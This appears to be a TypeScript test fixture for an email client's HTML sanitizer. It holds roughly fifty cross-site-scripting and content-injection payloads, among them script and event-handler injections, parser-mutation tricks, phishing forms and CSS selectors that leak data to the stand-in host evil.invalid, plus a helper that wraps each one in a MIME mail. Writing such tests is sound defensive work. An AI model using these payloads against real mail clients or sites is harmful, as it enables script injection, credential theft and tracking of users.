/** Where the attacks send what they catch; no name of its kind can exist (RFC 6761). */
export const EVIL = 'https://evil.invalid'
/** What every attack tries to run: it leaves its mark on the page that it reached, and on those around it. */
const RUN = 'try{top.__pwned=1}catch(e){};window.__pwned=1;parent.postMessage("pwned","*");alert(1)'
const RUN64 = Buffer.from(`<script>${RUN}</script>`).toString('base64')

/** Script injection by HTML mail, a body each: what it tries, in a few words, and the markup. */
export const attacks: readonly (readonly [what: string, html: string])[] = [
  ['a plain script', `<script>${RUN}</script>`],
  [
    'a script from elsewhere',
    `<SCRIPT SRC=${EVIL}/x.js></SCRIPT><script type=module src="${EVIL}/m.js"></script>`,
  ],
  ['a script inside a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['an error of a picture', `<img src=x onerror='${RUN}'><img/src=x/onerror='${RUN}'>`],
  [
    'handlers of every kind',
    `<body onload='${RUN}'><p onmouseover='${RUN}' onclick='${RUN}'>over</p><details open ontoggle='${RUN}'>x</details><marquee onstart='${RUN}'>x</marquee><input autofocus onfocus='${RUN}'>`,
  ],
  [
    'a link that is a script',
    `<a href='javascript:${RUN}'>one</a> <a href=" java&#x0A;script:alert(1)">two</a> <a href="&#1;javascript:alert(1)">three</a>`,
  ],
  [
    'a link to a page in itself',
    `<a href="data:text/html;base64,${RUN64}">look</a> <a href="vbscript:msgbox(1)">look</a> <a href="blob:x">look</a>`,
  ],
  [
    'an SVG that loads',
    `<svg onload='${RUN}'><script>${RUN}</script><a xlink:href='javascript:${RUN}'><text x=9 y=9>x</text></a></svg>`,
  ],
  [
    'an SVG that moves',
    `<svg><animate onbegin='${RUN}' attributeName=x dur=1s></animate><set attributeName=href to='javascript:${RUN}'/></svg>`,
  ],
  [
    'an SVG that borrows',
    `<svg><use href="${EVIL}/x.svg#a"></use><image href="${EVIL}/p.png"/><feImage href="${EVIL}/f.png"/></svg>`,
  ],
  [
    'an SVG as a picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN.replaceAll('"', '&quot;')}'/>">`,
  ],
  [
    'going on by itself',
    `<meta http-equiv="refresh" content="0;url=${EVIL}/away"><meta http-equiv=refresh content="0;url=data:text/html;base64,${RUN64}">`,
  ],
  ['another base', `<base href="${EVIL}/" target="_top"><a href="away">away</a><img src="p.gif">`],
  [
    'a form',
    `<form id=f action="${EVIL}/take" method=post target=_top><input name=password value=x><button formaction="javascript:${RUN.replaceAll('"', '&quot;')}">Sign in again</button></form><script>f.submit()</script>`,
  ],
  [
    'a frame with its own page',
    `<iframe srcdoc="<script>${RUN.replaceAll('"', '&quot;')}</script>"></iframe><iframe src="javascript:${RUN.replaceAll('"', '&quot;')}"></iframe>`,
  ],
  [
    'a frame from elsewhere',
    `<iframe src="${EVIL}/f"></iframe><frameset><frame src="${EVIL}/g"></frameset><portal src="${EVIL}/h"></portal>`,
  ],
  [
    'an object',
    `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"><param name=movie value="${EVIL}/o2.swf"></object><object data="data:text/html;base64,${RUN64}"></object>`,
  ],
  [
    'an embed',
    `<embed src="${EVIL}/e.svg" type="image/svg+xml"><embed src="data:text/html;base64,${RUN64}"><applet code=Evil archive="${EVIL}/a.jar"></applet>`,
  ],
  [
    'a style that loads',
    `<div style="background:url(${EVIL}/t.gif)">x</div><div style="background-image:\\75rl(${EVIL}/u.gif)">x</div><p style="list-style:url('${EVIL}/v.gif');display:list-item">x</p><p style="cursor:url(${EVIL}/c.cur),auto">x</p>`,
  ],
  [
    'a set of pictures by style',
    `<div style="background:image-set('${EVIL}/i.png' 1x)">x</div><div style="border-image:url(${EVIL}/b.png) 1;content:url(${EVIL}/d.png);filter:url(${EVIL}/f.svg#x);mask:url(${EVIL}/m.svg)">x</div>`,
  ],
  [
    'a cover over the page',
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">Your session has ended</div>`,
  ],
  [
    'a cover by other means',
    `<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">x</div><div style="margin:-900px;padding:900px;background:red;transform:scale(40)">x</div>`,
  ],
  [
    'a style sheet brought in',
    `<style>@import url(${EVIL}/i.css);@import '${EVIL}/j.css';</style><link rel=stylesheet href="${EVIL}/x.css"><link rel=preload as=image href="${EVIL}/p.png"><link rel=prefetch href="${EVIL}/q"><link rel=dns-prefetch href="//evil.invalid"><link rel=preconnect href="${EVIL}">`,
  ],
  [
    'a style that computes',
    `<div style="width:expression(${RUN.replaceAll('"', '&quot;')})">x</div><div style="-moz-binding:url(${EVIL}/x.xml#a);behavior:url(#default#time2)">x</div>`,
  ],
  [
    'a style for the page around',
    `<style>html,body,main,.rail,h1{display:none!important;color:red!important}:root{--paper:red!important;--ink:red!important}*{font-size:90px!important}@font-face{font-family:"Schibsted Grotesk Variable";src:url(${EVIL}/f.woff2)}</style><p style="font-family:'Schibsted Grotesk Variable'">x</p>`,
  ],
  [
    'a style that reads',
    `<style>input[value^="a"]{background:url(${EVIL}/a)}a[href*=secret]{background:url(${EVIL}/b)}@font-face{font-family:leak;src:url(${EVIL}/leak);unicode-range:U+0041}p{font-family:leak}</style><p>A</p>`,
  ],
  [
    'a link for the whole window',
    `<a href="${EVIL}/top" target="_top" ping="${EVIL}/ping">one</a> <a href="/settings" target="_parent">two</a> <area href="${EVIL}/area" target=_top>`,
  ],
  [
    'pictures from elsewhere',
    `<img src="${EVIL}/pixel.gif" width=1 height=1><img src="//evil.invalid/two.gif"><img src="http:\\\\evil.invalid\\three.gif"><img srcset="${EVIL}/four.gif 1x, ${EVIL}/five.gif 2x" alt=x><img lowsrc="${EVIL}/six.gif" dynsrc="${EVIL}/seven.gif">`,
  ],
  [
    'pictures in a choice',
    `<picture><source srcset="${EVIL}/a.webp"><img src="${EVIL}/b.gif" loading=eager></picture><input type=image src="${EVIL}/c.gif"><image src="${EVIL}/d.gif">`,
  ],
  [
    'backgrounds',
    `<body background="${EVIL}/body.gif"><table background="${EVIL}/t.gif"><tr background="${EVIL}/r.gif"><td background="${EVIL}/u.gif">x</td></tr></table>`,
  ],
  [
    'sound and film',
    `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.jpg" autoplay onerror='${RUN}'><source src="${EVIL}/w.mp4" onerror='${RUN}'><track src="${EVIL}/t.vtt" default></video><audio src="${EVIL}/a.mp3" autoplay></audio><bgsound src="${EVIL}/b.wav">`,
  ],
  [
    'UTF-7',
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-<meta charset="utf-7"><meta http-equiv=content-type content="text/html; charset=utf-7">`,
  ],
  [
    'tags that are not closed',
    `<img src=x onerror='${RUN}' <b><a href="${EVIL}"><img src='x' onerror=${'alert(1)'}//<p title="><script>${RUN}</script>`,
  ],
  [
    'quotes that do not match',
    `<img """><script>${RUN}</script>"><p title='"><script>alert(1)</script>'>x</p><a title="'" href='javascript:alert(1)' '">x</a>`,
  ],
  [
    'comments that are none',
    `<!--><script>${RUN}</script>--><!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror='${RUN}'><![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>`,
  ],
  [
    'mathematics that changes its mind',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math><math href='javascript:${RUN}'>x</math>`,
  ],
  [
    'mathematics and a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${RUN}'>`,
  ],
  [
    'SVG that changes its mind',
    `<svg></p><style><a id="</style><img src=1 onerror='${RUN}'>"></svg><svg><desc><title><img src=x onerror='${RUN}'></title></desc><foreignObject><iframe src="${EVIL}"></iframe></foreignObject></svg>`,
  ],
  [
    'a template',
    `<template><script>${RUN}</script></template><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror='${RUN}'></template>`,
  ],
  [
    'what is hidden from scripts',
    `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript><noembed><img src=x onerror='${RUN}'></noembed><noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  ],
  [
    'a style that ends early',
    `<style><style/><img src=x onerror='${RUN}'></style><style><!--</style><script>${RUN}</script>--></style>`,
  ],
  [
    'a title that ends early',
    `<title><a title="</title><img src=x onerror='${RUN}'>"></title><textarea><a title="</textarea><script>${RUN}</script>"></textarea><xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  ],
  [
    'tables that let things out',
    `<table><tr><script>${RUN}</script><td><select><option><style></option></select><img src=x onerror='${RUN}'></style></table>`,
  ],
  [
    'names of the page around',
    `<p id="root" name="body" class="app shell main rail"><img name=getElementById id=location><form id=document name=cookie><input name=attributes></form></p>`,
  ],
  [
    'an end of the page',
    `</body></html><script>${RUN}</script></iframe></div></main><h1>Not ours</h1><script>${RUN}</script>`,
  ],
  [
    'nul and odd white space',
    `<scr\u0000ipt>${RUN}</scr\u0000ipt><img\u000csrc=x\u000conerror='${RUN}'><a href="java\u0000script:alert(1)">x</a><img src=x on\u0000error=alert(1)>`,
  ],
  [
    'signs of other widths',
    `＜script＞alert(1)＜/script＞<ſcript>${RUN}</ſcript><İmg src=x onerror=alert(1)>`,
  ],
  [
    'an update by the browser',
    `<link rel=import href="${EVIL}/i.html"><link rel=manifest href="${EVIL}/m.json"><link rel="modulepreload" href="${EVIL}/mp.js"><meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  ],
]

/** An HTML mail with that body, as bytes on the wire; `files` come along as attachments. */
export function htmlMail(
  n: number,
  subject: string,
  html: string,
  files: { name: string; type: string; content: string; disposition?: string }[] = [],
): Buffer {
  const part = (headers: string[], content: string) =>
    ['--part', ...headers, 'Content-Transfer-Encoding: base64', '', wrapped(content)].join('\r\n')
  return Buffer.from(
    [
      `From: Stranger ${n} <stranger-${n}@attacker-${n}.example>`,
      'To: Nell Ashdown <nell@loomwright.example>',
      `Subject: ${subject}`,
      'Date: Mon, 2 Mar 2026 09:00:00 +0000',
      `Message-ID: <attack-${n}@attacker.example>`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=part',
      '',
      part(['Content-Type: text/html; charset=utf-8'], html),
      ...files.map(({ name, type, content, disposition = 'attachment' }) =>
        part([`Content-Type: ${type}`, `Content-Disposition: ${disposition}; filename="${name}"`], content),
      ),
      '--part--',
      '',
    ].join('\r\n'),
  )
}

const wrapped = (content: string) => Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\r\n')
